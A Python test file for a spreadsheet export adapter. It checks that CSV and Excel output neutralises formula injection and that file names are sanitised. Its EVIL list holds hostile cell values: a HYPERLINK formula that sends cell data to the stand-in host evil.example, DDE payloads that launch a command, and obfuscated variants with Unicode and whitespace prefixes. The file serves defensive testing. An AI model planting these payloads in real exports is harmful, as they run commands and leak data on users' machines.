"""Tables as files: opened by other hands, and never run by them."""

import csv
import io
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from adapters.sheets.cells import clean, runs
from adapters.sheets.sheets import WrittenSheets
from bot.model.sheet import FileKind, Sheet

EVIL = (
    '=HYPERLINK("http://evil.example?"&A1,"prices")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
)
PLAIN = ("Boxes, 12", 'She said "no"', "two\nlines", "纸箱 12 个", "1,200", "007", "")
texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)


def sheet(kind: FileKind, *cells: str) -> Sheet:
    """One column."""
    return Sheet("Daily", kind, ("answer",), tuple((cell,) for cell in cells))


def opened_csv(content: bytes) -> list[list[str]]:
    """The rows as a program reads them that knows the standard."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def opened_xlsx(content: bytes) -> Worksheet:
    """The page as another program reads it: formulas as they are."""
    page = load_workbook(io.BytesIO(content), data_only=False).active
    assert isinstance(page, Worksheet)
    return page


@pytest.mark.parametrize("cell", EVIL)
def test_a_csv_has_no_formula(cell: str) -> None:
    """What would be run stands behind an apostrophe, and is there in full."""
    content = WrittenSheets().written(sheet(FileKind.CSV, cell))
    _, (found,) = opened_csv(content)
    assert found == f"'{clean(cell)}"


@pytest.mark.parametrize("cell", EVIL)
def test_an_excel_file_has_text_in_place_of_formulas(cell: str) -> None:
    """As it was typed, with the apostrophe that Excel itself hides and keeps."""
    page = opened_xlsx(WrittenSheets().written(sheet(FileKind.XLSX, cell)))
    found = page["A2"]
    assert found.data_type == "s"
    assert found.value == clean(cell)
    assert found.quotePrefix


@pytest.mark.parametrize("kind", FileKind)
def test_an_excel_file_runs_nothing(kind: FileKind) -> None:
    """No formula, link or macro is anywhere inside."""
    content = WrittenSheets().written(sheet(kind, *EVIL, "https://evil.example"))
    if kind is FileKind.CSV:
        assert all(not runs(row[0]) for row in opened_csv(content))
        return
    with ZipFile(io.BytesIO(content)) as parts:
        inside = b"".join(parts.read(name) for name in parts.namelist())
    assert b"<f>" not in inside
    assert b"<hyperlink" not in inside
    assert b"vbaProject" not in inside


@pytest.mark.parametrize("cell", PLAIN)
def test_what_is_no_formula_stays_as_it_was(cell: str) -> None:
    """Commas, quotes, line breaks, Chinese, and numbers that are none."""
    content = WrittenSheets().written(sheet(FileKind.CSV, cell))
    assert opened_csv(content) == [["answer"], [cell]]
    page = opened_xlsx(WrittenSheets().written(sheet(FileKind.XLSX, cell)))
    assert (page["A2"].value or "") == cell


def test_a_csv_is_as_the_standard_and_excel_want_it() -> None:
    """The mark of UTF-8 in front, CRLF behind every row, every cell quoted."""
    content = WrittenSheets().written(sheet(FileKind.CSV, "纸箱"))
    assert content == '\ufeff"answer"\r\n"纸箱"\r\n'.encode()


@given(st.lists(texts, max_size=5))
def test_every_text_comes_back_from_a_csv(cells: list[str]) -> None:
    """Whatever was typed; nothing of it would be run."""
    rows = opened_csv(WrittenSheets().written(sheet(FileKind.CSV, *cells)))[1:]
    assert len(rows) == len(cells)
    for (found,), cell in zip(rows, cells, strict=True):
        assert found.removeprefix("'") == clean(cell).removeprefix("'")
        assert not runs(found)


@given(st.lists(texts, min_size=1, max_size=5))
def test_every_text_comes_back_from_an_excel_file(cells: list[str]) -> None:
    """Whatever was typed is text there."""
    page = opened_xlsx(WrittenSheets().written(sheet(FileKind.XLSX, *cells)))
    for number, cell in enumerate(cells, start=2):
        found = page.cell(number, 1)
        assert found.data_type in ("s", "n")  # an empty cell says "n"
        assert (found.value or "") == clean(cell)


def test_the_name_of_a_file_fits_every_system() -> None:
    """No path, no control letter, no end that Windows refuses."""
    named = Sheet("../a\\b:c*?\n" + "x" * 90 + ".", FileKind.CSV, (), ())
    assert named.file == f"a b c {'x' * 54}.csv"
    assert Sheet(" .. ", FileKind.XLSX, (), ()).file == "shopcrew.xlsx"
